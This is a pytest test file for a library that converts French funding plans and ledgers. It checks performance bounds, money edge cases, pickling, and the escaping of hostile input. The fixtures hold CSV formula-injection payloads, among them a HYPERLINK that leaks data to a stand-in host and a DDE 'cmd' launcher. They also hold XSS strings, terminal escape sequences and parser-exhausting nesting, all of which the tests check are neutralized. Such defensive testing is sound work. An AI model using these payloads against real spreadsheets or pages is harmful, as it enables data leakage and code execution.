"""Hostile tables and careless colleagues: no blow-up, no injection, no lie, objects that travel.

Blow-ups are bounded as a ratio to a linear baseline timed in the same test (the best of a few
runs of each), never as an absolute time: the machine is shared and its speed varies.
"""
from __future__ import annotations

import datetime
import gc
import re
import time
import zipfile
from array import array
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

import essconv
import essconv.display
from essconv.cli import main


def best_time(fn, repeat: int = 3) -> float:
    best = float("inf")
    for _ in range(repeat):
        start = time.perf_counter()
        fn()
        best = min(best, time.perf_counter() - start)
    return max(best, 1e-6)


def best_times_in_turns(*fns, repeat: int = 5) -> list:
    """Each function's best time, the functions run in turns (one of each a round), so that a
    burst of load on a shared machine slows every one of them alike."""
    best = [float("inf")] * len(fns)
    # the collector off while timing: in a worker of the whole suite, a full collection over
    # its heap falls on whichever turn allocates most (the large input), and once took one
    # 14x its small twin where 4x is the rule
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        for _ in range(repeat):
            for k, fn in enumerate(fns):
                start = time.perf_counter()
                fn()
                best[k] = min(best[k], time.perf_counter() - start)
    finally:
        if was_enabled:
            gc.enable()
    return [max(b, 1e-6) for b in best]


# ---------------------------------------------------------------------------- blow-ups

def test_pivot_is_near_linear_in_distinct_row_labels():
    n = 40_000                     # quadratic before: ~350x the group-by at this size
    rows = [f"bénéficiaire {i}" for i in range(n)]
    ledger = essconv.Ledger.from_columns(
        {"r": rows, "c": ["CR", "CDC"] * (n // 2), "m": array("q", range(n))}, amount="m",
        cents=True)
    pivot = ledger.pivot("r", "c")
    group_by = best_time(lambda: ledger.group_by("r", "c").sum())
    pivoting = best_time(lambda: ledger.pivot("r", "c"), repeat=2)
    assert pivoting < 40 * group_by + 0.05, (pivoting, group_by)
    # and right: every cell equals a Decimal twin summed in Python
    assert pivot.lines == rows and pivot.funders == ["CR", "CDC"]
    for i in (0, 1, n // 2, n - 1):
        funder = "CR" if i % 2 == 0 else "CDC"
        assert pivot.cell(i, funder) == Decimal(i) / 100
        assert pivot.cell(i, "CDC" if funder == "CR" else "CR") is None
    assert pivot.total() == sum(Decimal(i) / 100 for i in range(n))


def test_pivot_with_groups_orders_lines_under_their_group():
    ledger = essconv.Ledger.from_columns(
        {"axe": ["B", "A", "B", "A", None], "ligne": ["x", "y", "y", "x", "z"],
         "f": ["CDC", "CR", "CR", "CDC", "CR"], "m": [1, 2, 3, 4, 5]}, amount="m")
    plan = ledger.pivot(("axe", "ligne"), "f")
    assert plan.axes == ["(missing)", "B", "A"]          # dictionary order: first seen first
    assert [(plan.axis_of(i), l) for i, l in enumerate(plan.lines)] == [
        ("(missing)", "z"), ("B", "x"), ("B", "y"), ("A", "x"), ("A", "y")]
    assert plan.cell(("A", "x"), "CDC") == 4 and plan.cell(("B", "y"), "CR") == 3
    assert plan.total() == 15


@pytest.mark.parametrize("threads", [1, 2])
def test_group_by_integer_keys_multiples_of_2_pow_44_hash_like_any(threads):
    n = 40_000                       # quadratic before: 0.7 s against 0.003 s
    amounts = array("q", [1] * n)
    plain = essconv.Ledger.from_columns({"k": list(range(n)), "m": amounts}, amount="m", cents=True)
    strided = essconv.Ledger.from_columns({"k": [i << 44 for i in range(n)], "m": amounts},
                                          amount="m", cents=True)
    from essconv.ledger import GroupBy
    baseline = best_time(lambda: GroupBy(plain, ["k"], threads).sum())
    hostile = best_time(lambda: GroupBy(strided, ["k"], threads).sum())
    assert hostile < 10 * baseline + 0.05, (hostile, baseline)
    sums = GroupBy(strided, ["k"], threads).sum().to_dict()
    assert len(sums) == n and sums[(n - 1) << 44] == Decimal("0.01")
    # two keys whose composite strides are large powers of two: still one group per pair
    pairs = essconv.Ledger.from_columns(
        {"a": [i << 44 for i in range(n)], "b": [(i % 7) << 40 for i in range(n)], "m": amounts},
        amount="m", cents=True)
    both = best_time(lambda: pairs.group_by("a", "b").sum())
    assert both < 20 * baseline + 0.05, (both, baseline)


@pytest.mark.parametrize("text, error", [
    ("1E+999999999", essconv.MoneyOverflowError), ("-1E+999999999", essconv.MoneyOverflowError),
    ("1E-999999999", essconv.AmountError)])
def test_a_decimal_with_a_huge_exponent_is_refused_on_its_exponent(text, error):
    from essconv.money import to_cents
    baseline = best_time(lambda: to_cents(Decimal("123456789.12")))
    def refuse():
        with pytest.raises(error):
            to_cents(Decimal(text))
    assert best_time(refuse) < 50 * baseline + 0.001
    with pytest.raises(error):
        essconv.Ledger.from_columns({"f": ["a"], "m": [Decimal(text)]}, amount="m")


def test_zero_at_any_exponent_is_zero_and_in_reach_values_still_parse():
    from essconv.money import to_cents
    assert to_cents(Decimal("0E+999999999")) == 0 == to_cents(Decimal("-0E-999999999"))
    assert to_cents(Decimal("1.5E+2")) == 15000 and to_cents(Decimal("12.50")) == 1250
    with pytest.raises(essconv.MoneyOverflowError):
        to_cents(Decimal("1E+21"))
    with pytest.raises(essconv.AmountError):
        to_cents(Decimal("1E-21"))


# ---------------------------------------------------------------------------- money edges

def test_an_open_lower_bound_keeps_a_row_of_int64_min_cents():
    ledger = essconv.Ledger.from_columns(
        {"f": ["a", "b", "c"], "m": array("q", [-(2**63), 5, 2**63 - 1])}, amount="m", cents=True)
    assert ledger.filter(m=(None, 0)).values("f") == ["a"]
    assert ledger.filter(m=(None, None)).values("f") == ["a", "b", "c"]
    ints = essconv.Ledger.from_columns({"y": [None, 3, -5], "m": [1, 2, 3]}, amount="m")
    assert ints.filter(y=(None, 10)).values("y") == [3, -5]    # missing is not in a range


# ---------------------------------------------------------------------------- injection

HOSTILE_TSV = (
    'Axe\tLigne\t=HYPERLINK("http://x.example/?leak")\tCR\tTotal\n'
    "@SUM(A1)\t+cmd|' /C calc'!A0\t-12,50\t3\t-9,50\n"
    "\t-2+3+cmd\t=1+1\t4\t5\n"
    "Total\t\t-12,50\t7\t-4,50\n")


@pytest.fixture
def hostile_plan(tmp_path: Path) -> Path:
    path = tmp_path / "plan-hostile.tsv"
    path.write_text(HOSTILE_TSV, encoding="utf-8")
    return path


@pytest.mark.parametrize("to, sep", [("csv", ";"), ("tsv", "\t")])
def test_convert_neutralizes_formulas_but_keeps_amounts_numbers(hostile_plan, tmp_path, to, sep):
    import csv
    out = tmp_path / f"out.{to}"
    assert main(["convert", str(hostile_plan), "--to", to, "-o", str(out)]) == 0
    rows = list(csv.reader(out.open(encoding="utf-8"), delimiter=sep))
    cells = [c for row in rows for c in row]
    assert '\'=HYPERLINK("http://x.example/?leak")' in cells
    assert "'@SUM(A1)" in cells and "'+cmd|' /C calc'!A0" in cells and "'-2+3+cmd" in cells
    assert "'=1+1" in cells                        # text in an amount's place is text
    assert rows[1][2] == "-12,50" and rows[1][4] == "-9,50" and rows[3][4] == "-4,50"
    for c in cells:                                # nothing a spreadsheet would run
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c


@pytest.mark.parametrize("by", ["funder", "line", "axis"])
def test_aggregate_s_plan_listing_guards_formulas_and_keeps_each_label_on_its_row(
        tmp_path, capsys, by):
    # `essconv aggregate PLAN --by funder > sums.tsv`: the label<TAB>sum listing wrote its keys
    # raw, so a funder "=HYPERLINK(...)", a line "+cmd|...", "-2+3+cmd" or an axis "@SUM(A1)"
    # ran as a formula once opened in a spreadsheet -- where `convert --to tsv` guards them
    import csv
    import io
    # a funder holding a tab, a line a line break: each stays on its own row of two cells
    plan = tmp_path / "plan-hostile.csv"
    plan.write_text(HOSTILE_TSV.replace(";", ",").replace("\t", ";")
                    .replace("CR;Total", '"C\tR";Total').replace("\n;-2+3", '\n;"-2+3\nx"'),
                    encoding="utf-8")
    assert main(["aggregate", str(plan), "--by", by]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out), delimiter="\t"))
    assert rows[0][0].startswith("#") and all(len(row) == 2 for row in rows[1:]), rows
    keys = [row[0] for row in rows[1:]]
    guarded = {"funder": ['\'=HYPERLINK("http://x.example/?leak")'],
               "line": ["'+cmd|' /C calc'!A0"],
               "axis": ["'@SUM(A1)"]}[by]
    assert all(g in keys for g in guarded), keys
    for key in keys:                               # nothing a spreadsheet would run
        assert not key.startswith(("=", "+", "@", "\t", "\r")), key
        assert not key.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", key), key


def test_convert_keeps_an_english_plans_negative_amounts_numbers(tmp_path):
    # a plan read with decimal="." prints "-1,000.25": only the French reading was tried, so
    # the guard took it for text and wrote "'-1,000.25", which a spreadsheet shows as text and
    # leaves out of its sums -- a column total silently short of 1 000,25
    from essconv.export import plan_delimited
    text = ('in €,A,B,Total\nx,-1234.56,2.50,-1232.06\ny,"-1,000.25",1,-999.25\n'
            'Total,"-2,234.81",3.50,"-2,231.31"\n')
    plan = essconv.read_plan(text.encode(), decimal=".")
    assert plan.validate().ok
    rows = [r.split(";") for r in plan_delimited(plan).splitlines()]
    assert rows[2][1] == "-1,000.25" and rows[3][1] == "-2,234.81" and rows[3][3] == "-2,231.31"
    assert not any(c.startswith("'") for r in rows for c in r)
    back = essconv.read_plan(plan_delimited(plan).encode(), decimal=".")
    assert back.to_dict()["lines"] == plan.to_dict()["lines"] and back.validate().ok
    # text in an amount's place is still guarded
    assert essconv.export.guard_formula("-2+3+cmd") == "'-2+3+cmd"


def test_convert_without_the_guard_writes_cells_verbatim(hostile_plan, tmp_path):
    import csv
    out = tmp_path / "out.csv"
    assert main(["convert", str(hostile_plan), "--to", "csv", "-o", str(out),
                 "--no-formula-guard"]) == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8"), delimiter=";") for c in row]
    assert "@SUM(A1)" in cells and "-2+3+cmd" in cells and "=1+1" in cells
    from essconv.export import plan_delimited
    plan = essconv.read_plan(hostile_plan)
    assert plan_delimited(plan, ";", formula_guard=False) == out.read_text(encoding="utf-8")


def test_plan_to_tsv_guards_formulas_and_keeps_a_label_s_tab_or_line_break_in_its_cell():
    # Plan.to_tsv, the plan's own TSV export, joined its cells with tabs as they were: a
    # ledger's pivot keyed by a beneficiary "=HYPERLINK(...)" opened in a spreadsheet ran it,
    # and a label holding a tab or a line break split its row (read back: "this row has 6
    # cells where the header has 5")
    import csv
    ledger = essconv.Ledger.from_columns(
        {"f": ['=HYPERLINK("http://x.example/?leak")', "a\tb", "c\nd", "CDC"],
         "g": ["@SUM(A1)", "x", "x", "-2+3"],
         "m": [Decimal("1"), Decimal("2"), Decimal("3"), Decimal("-4.50")]}, amount="m")
    pivot = ledger.pivot("f", "g")
    text = pivot.to_tsv()
    rows = list(csv.reader(text.splitlines(keepends=True), delimiter="\t"))
    assert [len(r) for r in rows] == [5] * 6
    cells = [c for row in rows for c in row]
    assert '\'=HYPERLINK("http://x.example/?leak")' in cells and "'@SUM(A1)" in cells
    assert "'-2+3" in cells and "a\tb" in cells and "c\nd" in cells
    assert "-4,50" in cells and rows[-1][-1] == "1,50"   # amounts stay numbers
    for c in cells:                                # nothing a spreadsheet would run
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or re.fullmatch(r"-[\d ]+(,\d+)?", c), c
    back = essconv.read_plan(text.encode())
    assert back.total() == pivot.total() and len(back.lines) == 4
    # the embedded plan, read back from its TSV, is the same plan
    plan = essconv.default().plan(2009)
    assert essconv.read_plan(plan.to_tsv().encode()).to_dict()["lines"] == plan.to_dict()["lines"]
    assert pivot.to_tsv(formula_guard=False).startswith("en €\t@SUM(A1)\t")
    with pytest.raises(essconv.ArgumentTypeError, match="^formula_guard must be True or False"):
        pivot.to_tsv(formula_guard="no")


def test_xlsx_export_writes_labels_as_strings_never_formulas(hostile_plan, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "out.xlsx"
    assert main(["convert", str(hostile_plan), "--to", "xlsx", "-o", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    wb = openpyxl.load_workbook(out)
    ws = wb.worksheets[0]
    assert ws.cell(1, 3).value == '=HYPERLINK("http://x.example/?leak")'
    assert ws.cell(1, 3).data_type == "s" and ws.cell(2, 1).data_type == "s"
    assert ws.cell(2, 3).value == Decimal("-12.5") or ws.cell(2, 3).value == -12.5
    assert ws.cell(2, 3).data_type == "n"           # the amount stays a number
    findings = wb["Constats"]   # the findings sheet, in the committee's language
    assert all(c.data_type != "f" for row in findings.iter_rows() for c in row)


def test_xlsx_export_shows_control_characters_instead_of_failing(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    source = tmp_path / "plan-ctl.tsv"
    source.write_bytes(b"Ligne\tCR\x07\tCDC\tTotal\nA\x1b[31mB\t1\t\t2\nTotal\t1\t\t2\n")
    out = tmp_path / "out.xlsx"
    assert main(["convert", str(source), "--to", "xlsx", "-o", str(out)]) == 0
    wb = openpyxl.load_workbook(out)
    assert wb.worksheets[0].cell(1, 2).value == "CR\ufffd"
    assert wb.worksheets[0].cell(2, 1).value == "A\ufffd[31mB"
    assert "Constats" in wb.sheetnames          # the row total is wrong: findings written too


HOSTILE_TOML = r'''
[convention]
title = "Convention <script>alert(1)</script> & co"
territory = "Bretagne"
start = 2020-01-01
end = 2022-12-31

[[parties]]
code = "ETAT"
name = "L'Etat <u>evil</u>"
kind = "state"
signatory = true

[[bodies]]
name = "Comité\u0007 des financeurs"
meetings_per_year = 2
members = ["les signataires"]
roles = ["décide\r du plan\u0000; vote"]

[[milestones]]
date = 2021-06-30
label = "Bilan\r à mi-parcours\u0000\u0007\u001b[31m\u007f fin"
'''


def test_ics_export_has_no_control_character(tmp_path):
    from essconv.calendar import to_ics
    path = tmp_path / "hostile.toml"
    path.write_text(HOSTILE_TOML, encoding="utf-8")
    ics = to_ics(essconv.load(path), 2021)
    body = ics.replace("\r\n", "")                  # the line ends RFC 5545 wants, and only them
    assert not re.search(r"[\x00-\x08\x0a-\x1f\x7f]", body), repr(body)
    assert "SUMMARY:Bilan\\n à mi-parcours[31m fin" in body
    assert "DESCRIPTION:décide\\n du plan\\; vote" in body


# what a terminal obeys rather than shows (C0 and C1 controls, DEL, bidi controls), a line end
# excepted: none may stand in a line of a text output
_OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.mark.parametrize("lang", ["fr", "en"])
def test_text_report_and_agenda_show_a_labels_controls_escaped(tmp_path, capsys, lang):
    """A body's name holding a BEL and a milestone's label holding a CR, a NUL and an escape
    sequence reached the text report and the CLI's agenda as they are: the CR broke the
    milestone's line in two and the escape sequence coloured the terminal.  Each is shown
    escaped (the CR, a line break, read as a space), so the report has the lines of the same
    convention with those labels cleaned."""
    from essconv.cli import main
    from essconv.report import render_text
    hostile, clean = tmp_path / "hostile.toml", tmp_path / "clean.toml"
    hostile.write_text(HOSTILE_TOML, encoding="utf-8")
    clean.write_text(re.sub(r"\\u00(00|07|1b|7f)|\\r", "", HOSTILE_TOML), encoding="utf-8")
    today = datetime.date(2021, 1, 1)
    outputs = {}
    for name, path in (("hostile", hostile), ("clean", clean)):
        report = render_text(essconv.load(path), today=today, lang=lang)
        assert main(["calendar", "--convention", str(path), "--year", "2021", "--lang", lang]) == 0
        outputs[name] = (report, capsys.readouterr().out)
    for hostile_text, clean_text in zip(outputs["hostile"], outputs["clean"]):
        assert not _OBEYED.search(hostile_text.replace("\n", "")), repr(hostile_text)
        assert len(hostile_text.splitlines()) == len(clean_text.splitlines())
        assert "Bilan à mi-parcours\\x00\\x07\\x1b[31m\\x7f fin" in hostile_text
        assert "Comité\\x07 des financeurs" in hostile_text
        assert "Bilan à mi-parcours[31m fin" in clean_text


def test_html_outputs_escape_labels(tmp_path):
    path = tmp_path / "hostile.toml"
    path.write_text(HOSTILE_TOML, encoding="utf-8")
    conv = essconv.load(path)
    plan = essconv.read_plan(
        "Ligne\t<img src=x onerror=alert(1)>\tTotal\n<script>x</script>\t1\t1\nTotal\t1\t2\n"
        .encode())
    from essconv.dashboard import render
    for html in (plan._repr_html_(), plan.validate()._repr_html_(), conv._repr_html_(),
                 render(conv), plan.pivot()._repr_html_()):
        assert "<script>" not in html and "<img" not in html and "<u>evil" not in html
    assert "&lt;script&gt;" in plan._repr_html_() and "&lt;img" in plan._repr_html_()


def test_repr_of_a_pivot_whose_total_overflows_shows_the_overflow():
    ledger = essconv.Ledger.from_columns(
        {"f": ["a", "b"], "g": ["x", "x"], "m": array("q", [2**62, 2**62])}, amount="m",
        cents=True)
    pivot = ledger.pivot("g", "f")
    assert "overflow" in repr(pivot) and "2 funders" in repr(pivot)
    with pytest.raises(essconv.MoneyOverflowError):
        pivot.total()                               # asked for, the sum still refuses


# ---------------------------------------------------------------------------- descriptions that lie

DESCRIPTION_HEAD = '''[convention]
title = "T"
territory = "B"
start = 2020-01-01
end = 2022-12-31
'''


def load_text(tmp_path: Path, text: str):
    path = tmp_path / "lying.toml"
    path.write_text(DESCRIPTION_HEAD + text, encoding="utf-8")
    return essconv.load(path)


@pytest.mark.parametrize("parties, message", [
    ('[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["c-dc"]\n'
     '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n', "is the code of 'CDC'"),
    ('[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n'
     '[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["CDC"]\n',
     "is the code of 'CDC'"),
    ('[[parties]]\ncode = "CR"\nname = "R"\nkind = "region"\naliases = ["Région"]\n'
     '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\naliases = ["r-égion"]\n',
     "is an alias of 'CR'")])   # codes compare as the core does: case (ASCII), -, space, _, .
def test_an_alias_cannot_take_over_another_party(tmp_path, parties, message):
    with pytest.raises(essconv.DescriptionError, match=message) as info:
        load_text(tmp_path, parties)
    assert info.value.key.endswith(".aliases") and info.value.path.endswith("lying.toml")


def test_an_alias_of_its_own_code_is_harmless(tmp_path):
    conv = load_text(tmp_path, '[[parties]]\ncode = "CDC"\nname = "C"\nkind = "other"\n'
                               'aliases = ["cdc", "Caisse"]\n')
    assert conv.party_of("Caisse").code == "CDC"
    assert essconv.default().party_of("CDC").code == "CDC"


@pytest.mark.parametrize("value", ["[" * 3000 + "]" * 3000, "{a=" * 3000 + "1" + "}" * 3000])
def test_deep_nesting_is_a_description_error_naming_the_key(tmp_path, value):
    with pytest.raises(essconv.DescriptionError) as info:
        load_text(tmp_path, f"deep_value = {value}\n")
    assert info.value.key == "deep_value" and info.value.line == 6
    assert isinstance(info.value, ValueError)


@pytest.mark.parametrize("count", [2**40, 2**63, -(2**40)])
def test_meetings_per_year_past_a_c_int_is_a_description_error(tmp_path, count):
    with pytest.raises(essconv.DescriptionError, match="expected 0 to 366") as info:
        load_text(tmp_path, f'[[bodies]]\nname = "B"\nmeetings_per_year = {count}\n')
    assert info.value.key == "bodies[0].meetings_per_year"


# ---------------------------------------------------------------------------- objects travel

def _same_ledger(a, b) -> None:
    assert a.columns == b.columns and a.kinds == b.kinds and len(a) == len(b)
    assert a.blank_rows == b.blank_rows and a.path == b.path
    assert [str(p) for p in a.bad_rows] == [str(p) for p in b.bad_rows]
    for name in a.columns:
        assert a.values(name) == b.values(name)
        if a.kinds[name] == "label":
            assert a.labels(name) == b.labels(name)
            assert a.dictionary(name) == b.dictionary(name)


def scdl_ledger():
    data = Path(__file__).parent / "data" / "scdl" / "lot-2017-subventions.csv"
    return essconv.read_scdl(data)


@pytest.mark.parametrize("protocol", [2, 4, 5])
def test_a_ledger_pickles_exactly(protocol):
    import pickle
    ledger = scdl_ledger()
    back = pickle.loads(pickle.dumps(ledger, protocol=protocol))
    _same_ledger(ledger, back)
    assert back.total() == ledger.total() and back.blank_rows > 0
    back.extend(ledger)                            # the copy is a ledger of its own
    assert len(back) == 2 * len(ledger) and len(ledger) == len(back) // 2


def test_protocol_5_sends_ledger_columns_out_of_band_without_a_per_row_cost():
    import pickle
    n = 200_000
    ledger = essconv.Ledger.from_columns(
        {"f": [f"f{i % 97}" for i in range(n)], "annee": [2009 + i % 5 for i in range(n)],
         "m": array("q", range(n))}, amount="m", cents=True)
    other = essconv.Ledger.from_columns({"f": ["f0"], "annee": [2009], "m": array("q", [1])},
                                        amount="m", cents=True)
    buffers: list = []
    data = pickle.dumps(ledger, protocol=5, buffer_callback=buffers.append)
    assert len(buffers) == 3 and len(data) < 10_000          # the rows are not in the pickle
    assert sum(memoryview(b).nbytes for b in buffers) == n * (4 + 8 + 8)
    with pytest.raises(BufferError):
        ledger.extend(other)                       # the columns are lent out meanwhile
    back = pickle.loads(data, buffers=buffers)
    _same_ledger(ledger, back)
    del buffers
    ledger.extend(back)                            # returned: the ledger may change again
    # no per-row cost: the round trip of three columns takes a fraction of what turning ONE
    # column into Python ints takes (a per-row pickle would take many times it)
    with back.column("annee") as view:
        per_row = best_time(view.tolist)
    trip = best_time(lambda: _round_trip5(back))
    assert trip < per_row / 2, (trip, per_row)


def _round_trip5(obj):
    import pickle
    buffers: list = []
    data = pickle.dumps(obj, protocol=5, buffer_callback=buffers.append)
    return pickle.loads(data, buffers=buffers)


def test_copies_are_independent_and_exact():
    import copy
    ledger = scdl_ledger()
    for twin in (copy.copy(ledger), copy.deepcopy(ledger)):
        _same_ledger(ledger, twin)
        twin.extend(ledger)
        assert len(twin) == 2 * len(ledger)
    plan = essconv.default().plan(2009)
    for twin in (copy.copy(plan), copy.deepcopy(plan)):
        assert twin.to_rows(as_printed=True) == plan.to_rows(as_printed=True)
        assert twin._core is not plan._core


def test_plans_reports_aggregates_and_conventions_pickle_exactly():
    import pickle
    conv = essconv.default()
    plan = conv.plan(2009)
    fixed = plan.with_corrections(plan.validate())
    pivot = scdl_ledger().pivot("nomAttribuant", "nature") if "nature" in scdl_ledger().columns \
        else scdl_ledger().pivot("nomAttribuant", "nomBeneficiaire")
    for p in (plan, fixed, pivot):
        back = pickle.loads(pickle.dumps(p))
        assert back._core.state() == p._core.state()
        assert [str(f) for f in back.validate()] == [str(f) for f in p.validate()]
        assert back.year == p.year and back.path == p.path and back.title == p.title
        assert str(back) == str(p)
    report = plan.validate(conv)
    back = pickle.loads(pickle.dumps(report))
    assert [str(f) for f in back] == [str(f) for f in report] and back.plan.total() == 8105
    assert back.ok is False and back.suggestions[0].code == report.suggestions[0].code
    agg = scdl_ledger().group_by("nomAttribuant").agg()
    back = pickle.loads(pickle.dumps(agg, protocol=5))
    assert back.to_dict() == agg.to_dict() and repr(back) == repr(agg)
    assert back.select("count").to_dict() == agg.select("count").to_dict()
    conv_back = pickle.loads(pickle.dumps(conv))
    assert conv_back.party_of("DRTEFP").code == "ETAT" and conv_back.party_of("CG-67") is None
    assert conv_back.meetings(2010) == conv.meetings(2010)
    assert conv_back.meetings(2009) == conv.meetings(2009)   # owed from the signature, still
    assert conv_back.plan(2009).validate().codes() == plan.validate().codes()
    assert [p.code for p in conv_back.signatories] == [p.code for p in conv.signatories]


def test_a_ledger_goes_to_a_spawn_worker_and_back():
    import copy
    import multiprocessing
    ledger = scdl_ledger()
    with multiprocessing.get_context("spawn").Pool(1) as pool:
        assert pool.apply(essconv.Ledger.total, (ledger,)) == ledger.total()
        back = pool.apply(copy.copy, (ledger,))
        agg = pool.apply(essconv.Ledger.group_by, (ledger, "nomAttribuant"))
    _same_ledger(ledger, back)
    assert agg.sum().to_dict() == ledger.group_by("nomAttribuant").sum().to_dict()


# ---------------------------------------------------------------------------- displays

def big_plan_bytes(lines: int, funders: int) -> bytes:
    head = "Axe\tLigne\t" + "\t".join(f"F{j}" for j in range(funders)) + "\tTotal\n"
    rows = [(f"Axe {i // 50}" if i % 50 == 0 else "") + f"\tligne {i}\t"
            + "\t".join(str(1 + (i + j) % 3) for j in range(funders)) + "\t0\n"
            for i in range(lines)]
    return (head + "".join(rows) + "Total\t" + "\t0" * funders + "\t0\n").encode()


def test_plan_displays_are_bounded_and_show_both_ends():
    lines, funders = 800, 30            # str() took ~5 s before (cubic in lines)
    data = big_plan_bytes(lines, funders)
    plan = essconv.read_plan(data)
    # timed in turns: a burst of load on a shared machine slows the three alike.  The views take
    # about 4x the read in a plain build, 8-12x under ASan (its malloc slows Python's objects,
    # not the core's read); the cubic view took ~600x: 30x parts the two with room either way
    read, text_time, html_time = best_times_in_turns(lambda: essconv.read_plan(data),
                                                     lambda: str(plan),
                                                     lambda: plan._repr_html_(), repeat=3)
    assert text_time < 30 * read + 0.05 and html_time < 30 * read + 0.05, (text_time, html_time,
                                                                           read)
    text, html = str(plan), plan._repr_html_()
    for shown in ("ligne 0 ", "ligne 19 ", "ligne 780 ", "ligne 799 ", " F0 ", " F29 "):
        assert shown in text + " ", shown
    assert "ligne 400 " not in text and " F15 " not in text and "…" in text
    assert "(800 lignes × 30 financeurs)" in text
    assert "<td>ligne 799</td>" in html and "<td>ligne 400</td>" not in html
    assert "<th>F29</th>" in html and "<th>F15</th>" not in html
    # the last axis's subtotal for F29, against a Decimal twin summed in Python
    last_axis = [i for i in range(750, 800)]
    twin = sum(Decimal(1 + (i + 29) % 3) for i in last_axis)
    sub = next(l for l in text.splitlines()[::-1] if "= sous-total" in l)
    assert sub.split()[-3] == str(twin)             # ... F29, "Total" (blank), (cells)
    assert text.count("sous-total") == 1       # only the last axis ends among the lines shown


def test_a_share_report_displays_as_fast_as_one_without_shares():
    """The notebook view of a share report over many groups read every share as a Decimal to
    tell whether they add up to 100 % (its footnote): 1.5 s for a million groups, against 5 ms
    for the same view without shares, which shows a few rows.  The shares' sum is now read
    from the column as integers."""
    from decimal import Decimal
    n = 200_000
    ledger = essconv.Ledger.from_columns(
        {"nom": [f"b{i}" for i in range(n)], "montant": array("q", [i % 997 + 1 for i in range(n)])},
        amount="montant", cents=True)
    plain = ledger.group_by("nom").sum()
    shares = plain.share()
    html = shares._repr_html_()
    assert "Parts arrondies une à une" in html   # 200 000 shares of 0,00 % or 0,01 %: not 100 %
    plain_time, share_time = best_times_in_turns(plain._repr_html_, shares._repr_html_)
    assert share_time < 20 * plain_time + 0.05, (share_time, plain_time)
    # the footnote read from the integers says what the Decimal twin says
    from essconv.export import shares_footnote
    for agg in (shares, *(essconv.Ledger.from_columns(
            {"nom": list("abc")[:len(sums)], "montant": array("q", sums)}, amount="montant",
            cents=True).group_by("nom").sum().share() for sums in ([1, 3], [1, 1, 1], [1, 1]))):
        adds_up = sum(agg.to_ledger().values("share"), Decimal(0)) == 100
        assert (shares_footnote(agg) is None) == adds_up
        assert ("Parts arrondies une à une" in agg._repr_html_()) == (not adds_up)


def test_a_plan_display_scales_linearly_not_worse():
    small, large = big_plan_bytes(400, 10), big_plan_bytes(1600, 10)
    p_small, p_large = essconv.read_plan(small), essconv.read_plan(large)
    t_small = best_time(lambda: (str(p_small), p_small._repr_html_()))
    t_large = best_time(lambda: (str(p_large), p_large._repr_html_()))
    assert t_large < 10 * t_small + 0.02, (t_large, t_small)      # 4x the lines: not 16x


def test_ledger_head_and_displays_convert_only_the_rows_shown():
    n = 300_000                         # as many distinct labels as rows: no whole dictionary
    ledger = essconv.Ledger.from_columns(
        {"f": [f"f{i}" for i in range(n)], "annee": [2009 + i % 5 for i in range(n)],
         "k": list(range(n)), "m": array("q", range(n))}, amount="m", cents=True)
    with ledger.column("annee") as view:
        one_column = best_time(view.tolist)     # converting ONE column: a per-row baseline
    assert best_time(lambda: ledger.head(2)) < one_column / 5
    assert best_time(lambda: ledger._repr_html_()) < one_column / 2
    assert ledger.head(2) == [{"f": "f0", "annee": 2009, "k": 0, "m": Decimal(0)},
                              {"f": "f1", "annee": 2010, "k": 1, "m": Decimal("0.01")}]
    assert ledger.tail(1) == [{"f": f"f{n - 1}", "annee": 2009 + (n - 1) % 5,
                               "k": n - 1, "m": Decimal(n - 1) / 100}]
    html = essconv.display.ledger_html(ledger, lang="en")
    assert "f9<" in html and f"f{n - 1}<" in html and f"{n - 15:,} more rows" in html
    assert ledger.values("f")[n // 2] == f"f{n // 2}"   # whole columns still read the dictionary
    agg = ledger.group_by("k").sum()                 # 300 000 groups
    assert best_time(lambda: agg._repr_html_()) < one_column / 2
    assert "299\u202f950 autres groupes" in agg._repr_html_()   # French by default, as a plan's


def test_displays_show_an_overflow_instead_of_raising():
    ledger = essconv.Ledger.from_columns(
        {"f": ["a", "b"], "g": ["x", "x"], "m": array("q", [2**62, 2**62])}, amount="m",
        cents=True)
    pivot = ledger.pivot("g", "f")
    # the overflow said in words in the page's language, the limit as it prints amounts
    # (it read "> int64", the C type's name, on a French page)
    beyond_fr = "au-delà de 92\u202f233\u202f720\u202f368\u202f547\u202f758,07\u00a0€"
    beyond_en = "beyond 92,233,720,368,547,758.07\u00a0€"
    assert beyond_fr in str(pivot)
    assert "46\u202f116\u202f860\u202f184\u202f273\u202f879,04" in pivot._repr_html_()     # each cell, shown
    assert "overflow" in repr(ledger) and beyond_fr in ledger._repr_html_()
    display = essconv.display
    for shown in (str(pivot), pivot._repr_html_(), ledger._repr_html_(),
                  display.plan_text(pivot, lang="fr"), display.plan_html(pivot, lang="fr")):
        assert "int64" not in shown and shown.count(beyond_fr) >= 1
    for shown in (display.plan_text(pivot, lang="en"), display.plan_html(pivot, lang="en"),
                  display.ledger_html(ledger, lang="en")):
        assert "int64" not in shown and beyond_en in shown and "au-delà" not in shown
    # the Total column and the Total row's corner: both sums past the limit, said each time
    assert str(pivot).count(beyond_fr) == 2
    assert display.plan_text(pivot, lang="en").count(beyond_en) == 2
    assert "2 rows, total " + beyond_en in display.ledger_html(ledger, lang="en")
    assert "2 lignes, total " + beyond_fr + "</p>" in ledger._repr_html_()   # no second €
